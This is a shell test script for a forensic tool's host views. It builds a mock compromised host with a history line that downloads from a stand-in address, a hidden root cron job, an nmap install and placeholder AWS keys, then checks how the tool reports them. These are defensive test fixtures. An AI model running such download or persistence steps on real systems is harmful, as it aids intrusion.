#!/bin/sh
# What hosts tell: the views on the command line, on the screen, in the report.
. "$SRCDIR/tests/lib.sh"

# A made-up host: names of wide characters, entries without a time, a secret.
umask 022
mkdir -p h/var/log h/home/alice/.aws h/etc/cron.d
cat >h/var/log/auth.log <<'END'
2026-03-11T09:00:00.000000+00:00 app-01 sshd[811]: Accepted publickey for alice from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:EXAMPLEonlyEXAMPLEonlyEXAMPLEonlyEXAMPLEonly
2026-03-11T09:00:01.000000+00:00 app-01 sshd[811]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)
2026-03-11T09:02:10.000000+00:00 app-01 sshd[812]: Failed password for invalid user 保守担当 from 2001:db8::77 port 50200 ssh2
2026-03-11T09:03:00.000000+00:00 app-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/less /srv/報告書/顧客一覧.csv
2026-03-11T09:09:00.000000+00:00 app-01 sshd[811]: pam_unix(sshd:session): session closed for user alice
END
printf 'whoami\n#1773219660\ncurl -O http://198.51.100.66/u\n' \
    >h/home/alice/.bash_history
printf '*/10 * * * * root /usr/local/bin/.sysupd\n' >h/etc/cron.d/sysupd
printf '[default]\naws_access_key_id = AKIASVCBACKUPEXAMPLE\naws_secret_access_key = %s\n' \
    wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY00 >h/home/alice/.aws/credentials
echo app-01 >h/etc/hostname
cat >h/var/log/dpkg.log <<'END'
2026-03-11 09:04:00 install nmap:amd64 <none> 7.93+dfsg1-1
2026-03-11 09:04:02 status installed nmap:amd64 7.93+dfsg1-1
END
find h -exec touch -h -d 2026-03-11T09:30:00Z {} +

"$KANSHIKI" new c.kan --title hosts --examiner examiner-1 >out 2>err
"$KANSHIKI" import c.kan h >out 2>err
ok "the host's files are imported" test $? -eq 0 -o $? -eq 2 || diag <err

# ---- the command line

"$KANSHIKI" host c.kan --format csv >out 2>err
is "$(tr -d '\r' <out | cut -d, -f1-3 | sed 1d | tr '\n' ' ')" \
    "logins,4,0 commands,3,1 persistence,1,1 packages,1,0 keys,1,0 " \
    "events and undated ones of each view are counted"
for view in logins commands persistence packages keys; do
    "$KANSHIKI" host c.kan $view >out 2>err
    is_status $? 0 "host $view"
    is_file_equal out "cli/host-$view.table" "  is as it was"
done
"$KANSHIKI" host c.kan commands --format jsonl >out
is "$(tail -n 1 out | grep -o '"time":[^,]*,')$(tail -n 1 out |
    grep -o '"text":.*')" '"time":null,"text":"whoami"}' \
    "what has no time comes last"
is "$("$KANSHIKI" host c.kan commands --limit 1 --format jsonl | wc -l)" 1 \
    "--limit"
is "$("$KANSHIKI" host c.kan commands --from 2026-03-11 --format jsonl |
    wc -l)" 2 "a range leaves the undated out"
is "$("$KANSHIKI" host c.kan logins 'ip:2001:db8::/32' --format jsonl |
    grep -c '保守担当')" 1 "a filter, with a name of wide characters"
"$KANSHIKI" host c.kan logins actor:nobody >out 2>err
is_status $? 0 "no event of that filter"
grep -q 'utmp (/var/log/wtmp, btmp): not in the case' err &&
    grep -q 'syslog (.*): 1 file, 5 events, .*: none of these' err
ok "  says which sources would, and what of them is in the case" test $? -eq 0 ||
    diag <err
"$KANSHIKI" host c.kan login >out 2>err
is_status $? 1 "an unknown view"
grep -q 'logins' err
ok "  names the nearest" test $? -eq 0 || diag <err
"$KANSHIKI" report c.kan -o q >out 2>err
grep -q 'logins: actor:nobody' q/report.html
ok "  and is in the log of queries" test $? -eq 0

# ---- the table of views against what it is made from

"$KANSHIKI" importers --format csv | tr -d '\r' | cut -d, -f1 | sort >known
"$KANSHIKI" new e.kan >out 2>err
for view in logins commands persistence packages keys; do
    "$KANSHIKI" host e.kan $view 2>&1 >/dev/null |
        sed -n 's/^kanshiki:   \([a-z0-9-]*\) (.*): not in the case$/\1/p'
done | sort -u >named
ok "an empty case names sources" test "$(wc -l <named)" -gt 10
is "$(comm -23 named known | tr '\n' ' ')" "" "  all of them are importers"

# The words of the first column of a table of docs/formats/host.md.
sed -n '/^## Actions/,/^## /p' "$SRCDIR/docs/formats/host.md" |
    sed -n 's/^| \(`.*`\) |.*/\1/p' | grep -o '`[^`]*`' | tr -d '`' |
    sort >words
for view in logins commands persistence packages keys; do
    sed -n "/^## Views/,/^## /s/^| \`$view\` | //p" \
        "$SRCDIR/docs/formats/host.md" | grep -o '`[^`]*`' | tr -d '`' |
        sort >stated
    # the filter of the view in the source: its words, without what joins them
    sed -n '/^const struct host_view host_views/,/^};/p' \
        "$SRCDIR/analyzer/host_views.c" | tr -d '\n' | sed 's/"  *"//g' |
        grep -o "\"$view\", \"[^\"]*\",  *\"\(\\\\\"\|[^\"]\)*\"" |
        sed 's/^"[^"]*", "[^"]*", *"//; s/\\"//g; s/action://g; s/[()"]//g
            s/ has:outcome//; s/ or /\n/g' | sort >asked
    ok "$view asks for words" test -s asked
    is "$(cat asked)" "$(cat stated)" "  which are those that are documented"
    is "$(comm -23 asked words | tr '\n' ' ')" "" "  and words for actions"
done

# What the table says of sources is so: each has such events in the test data.
"$KANSHIKI" new all.kan >out 2>err
"$KANSHIKI" import all.kan "$SRCDIR/tests/data/host" >out 2>err
for view in logins commands persistence packages keys; do
    "$KANSHIKI" host all.kan $view --format jsonl |
        grep -o '"source":"[^"]*"' | cut -d'"' -f4 | sort -u >found
    "$KANSHIKI" host e.kan $view 2>&1 >/dev/null |
        sed -n 's/^kanshiki:   \([a-z0-9-]*\) (.*/\1/p' | sort >named
    is "$(comm -13 found named | tr '\n' ' ')" "" \
        "$view: the sources named give such events"
done

# ---- screens

shot() { # COLUMNSxROWS OPTION..
    size=$1
    shift
    "$KANSHIKI" tui c.kan --script "$SRCDIR/tests/tui/host.keys" \
        --size "$size" "$@" >shown 2>err
    is_status $? 0 "screens of hosts at $size"
    is_file_equal shown "tui/host-$size$*.txt" "  are as they were"
}
shot 120x40
shot 80x24
shot 80x24 --ascii
shot 20x5
"$KANSHIKI" tui c.kan --script "$SRCDIR/tests/tui/host.keys" --size 1x1 \
    >shown 2>err
is_status $? 0 "one cell is enough"

# Pages of what is dated and what is not, from either end.
mkdir -p long/home/bob
{
    i=0
    while [ $((i += 1)) -le 230 ]; do echo "undated $i"; done
    while [ $((i -= 1)) -gt 0 ]; do
        printf '#%s\ndated %s\n' $((1773219660 - i)) "$i"
    done
} >long/home/bob/.bash_history
"$KANSHIKI" new l.kan >out 2>err
"$KANSHIKI" import l.kan long >out 2>err
{
    printf 'keys 8 Tab\nwait idle\nscreen first\nkeys G\nwait idle\n'
    printf 'screen last\n'
    i=0
    while [ $((i += 1)) -le 60 ]; do printf 'keys PgUp\nwait idle\n'; done
    printf 'screen up\n'
    i=0
    while [ $((i += 1)) -le 60 ]; do printf 'keys PgDn\nwait idle\n'; done
    printf 'screen down\n'
} >long.keys
"$KANSHIKI" tui l.kan --script long.keys --size 80x24 >shown 2>err
is_status $? 0 "a list of several pages"
is "$(sed -n 's/^|>.* \([a-z]* [0-9]*\)$/\1/p' shown | tr '\n' ' ')" \
    "dated 230 undated 230 dated 230 undated 230 " \
    "  begins with what is dated, ends with what is not, both ways"
"$KANSHIKI" host l.kan commands --format csv | tr -d '\r' | sed 1d |
    sed 's/.*,//' >listed
{
    seq 230 -1 1 | sed 's/^/dated /'
    seq 1 230 | sed 's/^/undated /'
} >wanted
cmp -s listed wanted
ok "the command line has the same order" test $? -eq 0

# ---- the report

part() { sed -n '/<section id="hosts">/,/<\/section>/p' "$1/report.html"; }
"$KANSHIKI" report c.kan -o en >out 2>err
"$KANSHIKI" report c.kan -o ja --lang ja >out 2>err
part en >en.part
part ja >ja.part
in_part() { # FILE TEXT NAME
    grep -qF "$2" "$1"
    ok "$3" test $? -eq 0
}
in_part en.part '>Host name</td>' "the report says which machine"
in_part en.part '[X1/etc/hostname@0+6 E' "  with its citation"
in_part en.part '顧客一覧.csv' "the commands"
in_part en.part 'AKIASVCBACKUPEXAMPLE' "the ids of keys"
is "$(grep -c 'aws_secret_access_key' en.part)" 0 "  and not what is beside them"
in_part en.part '.sysupd' "persistence"
in_part ja.part 'ログインとセッション' "in Japanese"
is "$(sed 's/<[^>]*>/\n/g' ja.part | grep -c 'E[0-9]*\]')" \
    "$(sed 's/<[^>]*>/\n/g' en.part | grep -c 'E[0-9]*\]')" \
    "  with as many citations"
"$KANSHIKI" report e.kan -o none >out 2>err
part none >none.part
in_part none.part '/var/log/wtmp, btmp</bdi>): not in the case' \
    "an empty chapter says why"

done_testing
